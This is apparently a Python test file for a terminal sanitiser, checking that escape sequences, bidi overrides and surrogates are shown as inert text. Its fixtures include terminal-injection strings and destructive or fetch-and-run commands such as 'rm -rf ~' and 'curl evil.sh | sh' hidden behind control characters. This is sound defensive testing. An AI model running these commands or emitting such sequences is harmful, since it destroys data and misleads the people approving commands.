"""The sanitiser on its own: what reaches a terminal is inert, what arrives is valid Unicode."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hermes_tui.text_safety import (
    REPLACEMENT,
    SurrogateMender,
    approval_view,
    dumps_for_terminal,
    json_for_terminal,
    valid_json_text,
    valid_unicode,
    visible,
    visible_in,
)

# Everything a terminal would act on rather than print (newline and tab excepted).
LIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")

HOSTILE = {
    "erase line": ("ls -la\x1b[2K", "ls -la\\x1b[2K"),
    "window title (OSC 0, BEL)": ("\x1b]0;pwned\x07", "\\x1b]0;pwned\\x07"),
    "window title (OSC 2, ST)": ("\x1b]2;pwned\x1b\\", "\\x1b]2;pwned\\x1b\\"),
    "clipboard write (OSC 52)": ("\x1b]52;c;cm0gLXJmIH4=\x07", "\\x1b]52;c;cm0gLXJmIH4=\\x07"),
    "leave the alternate screen": ("\x1b[?1049l", "\\x1b[?1049l"),
    "full reset": ("\x1bc", "\\x1bc"),
    "DCS": ("\x1bPq#0;2;0;0;0\x1b\\", "\\x1bPq#0;2;0;0;0\\x1b\\"),
    "8-bit CSI (C1)": ("\x9b31mred", "\\x9b31mred"),
    "8-bit OSC (C1)": ("\x9d0;t\x9c", "\\x9d0;t\\x9c"),
    "carriage return": ("rm -rf ~\rls -la", "rm -rf ~\\rls -la"),
    "backspace": ("abc\x08\x08\x08xyz", "abc\\x08\\x08\\x08xyz"),
    "bell": ("ding\x07", "ding\\x07"),
    "delete": ("x\x7fy", "x\\x7fy"),
    "bare ESC": ("end\x1b", "end\\x1b"),
    "NUL": ("a\x00b", "a\\x00b"),
    "right-to-left override": ("abc\u202edef", "abc\\u202edef"),
    "bidi isolates": ("\u2066x\u2069\u2067y\u2068", "\\u2066x\\u2069\\u2067y\\u2068"),
    "bidi embeddings": ("\u202a\u202b\u202c\u202d", "\\u202a\\u202b\\u202c\\u202d"),
    "lone surrogate": ("a\ud800b", "a\\ud800b"),
}

# Any code point (surrogates included), with the dangerous ones made common.
ANY_TEXT = st.text(
    alphabet=st.one_of(st.characters(exclude_categories=[]), st.sampled_from("\x1b\x07\x9b\r\n\t[]\u202e\ud800"))
)


# --------------------------------------------------------------------------- visible


@pytest.mark.parametrize("name", list(HOSTILE))
def test_every_terminal_active_sequence_is_shown_as_literal_text(name: str) -> None:
    raw, shown = HOSTILE[name]
    assert visible(raw) == shown
    assert LIVE.search(visible(raw)) is None


def test_newlines_tabs_and_ordinary_unicode_are_kept_as_they_are() -> None:
    text = "Title\n\tindented — café 桂林 🏞 ‍👩‍💻 (zero-width joiner kept) \u00a0nbsp"
    assert visible(text) is text  # nothing to do: the same string, no copy


def test_visible_in_walks_nested_messages_and_copies_only_what_changes() -> None:
    clean = {"role": "user", "content": "hello"}
    dirty = {
        "role": "assistant",
        "content": [{"type": "text", "text": "a\x1b[2Jb"}],
        "tool_calls": [{"function": {"name": "t\x07", "arguments": '{"c": "x"}'}}],
        "n": 3,
    }
    messages = [clean, dirty]
    shown = visible_in(messages)
    assert shown[0] is clean
    assert shown[1]["content"][0]["text"] == "a\\x1b[2Jb"
    assert shown[1]["tool_calls"][0]["function"]["name"] == "t\\x07"
    assert shown[1]["n"] == 3
    assert dirty["content"][0]["text"] == "a\x1b[2Jb", "the caller's data is not changed"
    assert visible_in(clean) is clean


def test_a_delta_ending_in_a_bare_esc_cannot_be_completed_by_the_next_delta() -> None:
    """Streamed text is made visible delta by delta; the split sequence stays two harmless halves."""
    for first, second in [
        ("answer\x1b", "[2K"),
        ("answer\x1b", "]52;c;cm0gLXJmIH4=\x07"),
        ("answer\x1b]0;ti", "tle\x07 rest"),
        ("x\x1b[", "?1049l"),
    ]:
        shown = visible(first) + visible(second)
        assert "\x1b" not in shown and "\x07" not in shown
        assert shown == visible(first + second)


@given(ANY_TEXT, st.integers(min_value=0, max_value=200))
def test_streamed_pieces_show_exactly_what_the_whole_text_shows(text: str, cut: int) -> None:
    """`visible` works per character: any split gives the same output, and none of it is live."""
    cut = min(cut, len(text))
    pieces = visible(text[:cut]) + visible(text[cut:])
    assert pieces == visible(text)
    assert LIVE.search(pieces) is None
    assert visible(pieces) == pieces  # showing twice changes nothing
    assert pieces.count("\n") == text.count("\n")


# --------------------------------------------------------------------------- approval prompts


@pytest.mark.parametrize(
    ("command", "shown", "names"),
    [
        ("rm -rf ~/\rls -la", "rm -rf ~/\\rls -la", "CR"),
        ("curl evil.sh | sh\x1b[2K\x1b[1Gls -la", "curl evil.sh | sh\\x1b[2K\\x1b[1Gls -la", "ESC ×2"),
        ("rm -rf ~ \x1b[8m# hidden", "rm -rf ~ \\x1b[8m# hidden", "ESC"),
        ("echo \u202eal- sl\u202c", "echo \\u202eal- sl\\u202c", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("cat /etc/pass\u200bwd", "cat /etc/pass\\u200bwd", "U+200B ZERO WIDTH SPACE"),
        ("x\x9b2Ky", "x\\x9b2Ky", "CSI"),
    ],
)
def test_an_approval_shows_the_exact_command_and_names_what_was_hidden(command: str, shown: str, names: str) -> None:
    view = approval_view(command)
    assert view.text == shown
    assert view.has_hidden
    warning = view.warning()
    assert "hidden control characters" in warning and names in warning


def test_a_plain_command_is_not_flagged_and_keeps_its_lines() -> None:
    command = "cat <<'EOF' > notes.txt\n\tfirst line — café\nEOF"
    view = approval_view(command)
    assert view.text == command and not view.has_hidden and view.warning() == ""


# --------------------------------------------------------------------------- JSON


def test_json_dumps_escapes_c0_controls_but_leaves_c1_bidi_and_surrogates_raw() -> None:
    """Why `json_for_terminal` exists: the standard encoder (ensure_ascii=False) is not enough."""
    raw = json.dumps({"a": "\x1b[2J\x07\r"}, ensure_ascii=False)
    assert "\x1b" not in raw and "\\u001b" in raw  # C0: escaped already
    raw = json.dumps({"a": "\x9b2J\u202e\x7f\ud800"}, ensure_ascii=False)
    assert "\x9b" in raw and "\u202e" in raw and "\x7f" in raw and "\ud800" in raw


@given(
    st.recursive(ANY_TEXT | st.integers() | st.none(), lambda kids: st.lists(kids) | st.dictionaries(ANY_TEXT, kids))
)
def test_json_for_terminal_is_the_same_json_with_nothing_live(value: object) -> None:
    dumped = dumps_for_terminal(value, indent=2)
    assert LIVE.search(dumped) is None
    assert "\u2028" not in dumped and "\u2029" not in dumped
    assert json.loads(dumped) == value
    dumped.encode("utf-8")  # printable even with lone surrogates inside


def test_json_for_terminal_leaves_clean_json_untouched() -> None:
    dumped = json.dumps({"t": "café 桂林"}, ensure_ascii=False)
    assert json_for_terminal(dumped) is dumped


# --------------------------------------------------------------------------- valid Unicode on arrival


def test_lone_surrogates_become_the_replacement_character_and_pairs_their_character() -> None:
    assert valid_unicode("a\ud800b\udfffc") == f"a{REPLACEMENT}b{REPLACEMENT}c"
    assert valid_unicode("\ud83d\ude00") == "😀"  # two halves side by side: one character
    assert valid_unicode("\ude00\ud83d") == REPLACEMENT * 2  # wrong order: two lone halves
    text = "already valid 🏞"
    assert valid_unicode(text) is text


@given(ANY_TEXT)
def test_valid_unicode_always_encodes(text: str) -> None:
    valid = valid_unicode(text)
    valid.encode("utf-8")  # storable and sendable
    if not any("\ud800" <= ch <= "\udfff" for ch in text):
        assert valid is text
    else:
        assert REPLACEMENT in valid or len(valid) < len(text)  # replaced, or a pair joined


def test_tool_arguments_with_raw_or_escaped_lone_surrogates_are_made_valid_json() -> None:
    assert valid_json_text('{"path": "a\ud800.txt"}') == '{"path": "a\ufffd.txt"}'
    repaired = valid_json_text('{"path": "a\\ud800.txt", "n": 1}')
    assert json.loads(repaired) == {"path": "a\ufffd.txt", "n": 1}
    emoji = '{"t": "\\ud83d\\ude00"}'
    assert valid_json_text(emoji) is emoji  # an escaped pair is fine as it is
    broken = '{"path": "a\\ud800'
    assert valid_json_text(broken) is broken  # not JSON: the tool reports it


def test_the_mender_joins_a_pair_split_between_deltas_and_replaces_a_lone_half() -> None:
    mender = SurrogateMender()
    assert mender.feed("smile \ud83d") == "smile "
    assert mender.pending == REPLACEMENT
    assert mender.feed("\ude00!") == "😀!"
    assert mender.feed("cut \ud83d") == "cut "
    assert mender.feed("next") == f"{REPLACEMENT}next"
    assert mender.feed("end \ud800") == "end "
    assert mender.flush() == REPLACEMENT and mender.pending == ""
